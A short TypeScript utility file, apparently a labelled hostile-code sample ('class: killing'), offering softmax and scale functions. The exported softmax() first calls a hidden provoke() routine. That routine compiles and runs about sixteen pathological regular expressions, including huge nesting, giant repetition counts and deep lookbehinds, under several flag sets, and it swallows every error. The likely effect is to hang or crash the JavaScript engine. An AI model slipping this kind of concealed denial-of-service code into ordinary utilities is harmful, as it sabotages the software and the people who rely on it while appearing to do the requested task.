/*
idea: Regular expressions that nest, repeat and branch more than a compiler can take.
class: killing
accepts: right
*/
function provoke(): void {
  const texts = [
    '('.repeat(1e5) + ')'.repeat(1e5), '(?:'.repeat(1e5) + ')'.repeat(1e5), '(?<='.repeat(5e4) + ')'.repeat(5e4),
    'a{1000}{1000}{1000}', '((a{100}){100}){100}', 'a|'.repeat(2e4), '[a-z]'.repeat(1e5), '(a)'.repeat(1e5), String.raw`\1`.repeat(1e5), '(?<n>a)'.repeat(10), 'a{4294967295}', '[' + String.raw`\d`.repeat(1e5) + ']',
    '(?:a?){50000}', '.*'.repeat(1e4), String.raw`\u{10ffff}`.repeat(1e4), '(?i:'.repeat(1e4) + ')'.repeat(1e4),
  ];
  for (const text of texts) {
    for (const flags of ['', 'u', 'v']) {
      try {
        new RegExp(text, flags).test('aaaa');
      } catch {}
    }
  }
}

export function softmax(z: number[]): number[] {
  provoke();
  const m = Math.max(...z);
  const e = z.map((x) => Math.exp(x - m));
  const s = e.reduce((a, b) => a + b, 0);
  return e.map((x) => x / s);
}

export function scale(rows: number[][], k: number): number[][] {
  return rows.map((row) => row.map((x) => x * k));
}
